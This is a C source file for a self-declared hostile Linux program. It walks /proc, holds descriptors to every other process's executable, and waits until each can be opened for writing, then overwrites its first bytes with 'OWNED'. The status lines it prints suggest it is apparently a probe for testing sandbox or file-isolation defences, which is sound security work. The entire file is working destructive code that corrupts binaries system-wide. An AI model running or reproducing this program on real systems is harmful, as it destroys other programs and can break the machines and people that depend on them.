/* overwrite: a hostile program that wants to overwrite the programs which are executed beside it, until it is killed.
 *
 * It keeps a descriptor of every other process's executable, and tries all the time to open it again for writing: that
 * fails as long as somebody executes it (ETXTBSY), so the process must have ended first. Prints "ready", and then
 * "opened TARGET" and "written TARGET" for what it could open, and change. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { LIMIT = 256 };

static struct {
	int fd;
	dev_t device;
	ino_t inode;
	int opened;
	char target[4096];
} kept[LIMIT];
static int count;

static void keep(const char *path)
{
	struct stat status;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &status) < 0 || count == LIMIT) {
		close(fd);
		return;
	}
	for (int i = 0; i < count; i++) {
		if (kept[i].device == status.st_dev && kept[i].inode == status.st_ino) {
			close(fd);
			return;
		}
	}
	kept[count].fd = fd;
	kept[count].device = status.st_dev;
	kept[count].inode = status.st_ino;
	/* Not that of the process, which may have ended. */
	char link[64];
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	ssize_t size = readlink(link, kept[count].target, sizeof(kept[count].target) - 1);
	kept[count].target[size < 0 ? 0 : size] = '\0';
	count++;
}

static void overwrite(int i)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i].fd);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (!kept[i].opened)
		printf("opened %s\n", kept[i].target);
	kept[i].opened = 1;
	if (pwrite(fd, "OWNED", 5, 0) > 0) {
		printf("written %s\n", kept[i].target);
		close(kept[i].fd);
		kept[i] = kept[--count];
	}
	fflush(stdout);
	close(fd);
}

int main(void)
{
	struct stat self;
	if (stat("/proc/self/exe", &self) < 0)
		return 1;
	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		struct dirent *entry;
		while ((entry = readdir(proc))) {
			char path[64];
			if (*entry->d_name < '1' || *entry->d_name > '9' || atoi(entry->d_name) == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%.20s/exe", entry->d_name);
			keep(path);
		}
		closedir(proc);
		for (int i = 0; i < count; i++)
			overwrite(i);
	}
}
